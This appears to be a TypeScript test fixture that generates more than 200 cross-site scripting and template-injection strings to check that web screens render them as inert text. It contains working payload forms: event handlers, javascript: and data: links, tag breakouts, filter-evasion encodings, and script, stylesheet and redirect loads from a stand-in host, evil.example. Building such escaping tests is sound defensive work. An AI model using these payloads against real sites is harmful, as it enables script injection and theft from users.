/** What each string tries to do if any screen takes it for more than text. */
const ACT = 'window.__ran=(window.__ran||0)+1'

const EVENTS = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onbeforeinput',
  'onpointerenter',
]

const ELEMENTS = [
  `<script>${ACT}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<img src=x onerror="${ACT}">`,
  `<svg onload="${ACT}">`,
  `<svg><script>${ACT}</script></svg>`,
  `<svg><animate onbegin="${ACT}" attributeName=x dur=1s>`,
  `<math><mi//xlink:href="javascript:${ACT}">`,
  `<iframe src="javascript:${ACT}"></iframe>`,
  `<iframe srcdoc="<script>parent.${ACT}</script>"></iframe>`,
  `<object data="javascript:${ACT}"></object>`,
  `<embed src="javascript:${ACT}">`,
  `<form action="javascript:${ACT}"><button>klik</button></form>`,
  `<a href="javascript:${ACT}">klik</a>`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<style>@import "https://evil.example/x.css"</style>`,
  `<template><img src=x onerror="${ACT}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${ACT}>">`,
  `<video><source onerror="${ACT}"></video>`,
  `<input autofocus onfocus="${ACT}">`,
  `<details open ontoggle="${ACT}">x</details>`,
  `<img src="https://evil.example/pixel.gif">`,
  `<!--><img src=x onerror=${ACT}>-->`,
  `<![CDATA[<img src=x onerror=${ACT}>]]>`,
]

const ESCAPES = [
  `"><img src=x onerror=${ACT}>`,
  `'><img src=x onerror=${ACT}>`,
  `\`><img src=x onerror=${ACT}>`,
  `</textarea><script>${ACT}</script>`,
  `</title><script>${ACT}</script>`,
  `</style><script>${ACT}</script>`,
  `" autofocus onfocus="${ACT}`,
  `' style='animation-name:x' onanimationstart='${ACT}`,
  `';${ACT};//`,
  `";${ACT};//`,
  `</script><script>${ACT}</script>`,
  `\u2028${ACT}\u2028`,
]

const LINKS = [
  `javascript:${ACT}`,
  `JaVaScRiPt:${ACT}`,
  `java\tscript:${ACT}`,
  `data:text/html,<script>${ACT}</script>`,
  `vbscript:${ACT}`,
  `https://example.com/"onmouseover="${ACT}`,
  `https://example.com/'onmouseover='${ACT}`,
  `https://example.com/<img src=x onerror=${ACT}>`,
  `http://user:javascript:${ACT}@example.com`,
  `blob:https://evil.example/${ACT}`,
  `mailto:x@example.com?body=<script>${ACT}</script>`,
  `tel:1"onclick="${ACT}`,
]

const TEMPLATES = [
  '{{7*7}}',
  ['$', '{7*7}'].join(''),
  '<%= 7*7 %>',
  '#{7*7}',
  `{{constructor.constructor('${ACT}')()}}`,
  `\${${ACT}}`,
  `[[${ACT}]]`,
  `{{name}}`,
]

/** Ways a filter is slipped past: other letters, other encodings, broken nesting. */
const DISGUISES: Array<(text: string) => string> = [
  (text) => text,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => encodeURIComponent(text),
  (text) => text.replace(/<(\w+)/g, (_, tag: string) => `<${tag.toUpperCase()}`),
  (text) => text.replace('<', '<<').replace('script', 'scr<script>ipt'),
]

/** More than 200 strings, each text and nothing else wherever it is shown. */
export const CORPUS: string[] = [
  ...ELEMENTS.flatMap((text) => DISGUISES.map((disguise) => disguise(text))),
  ...EVENTS.flatMap((event) => [
    `<x ${event}=${ACT} tabindex=1>`,
    `" ${event}="${ACT}`,
    `<body ${event}="${ACT}">`,
  ]),
  ...ESCAPES.flatMap((text) => DISGUISES.slice(0, 3).map((disguise) => disguise(text))),
  ...LINKS,
  ...TEMPLATES,
]
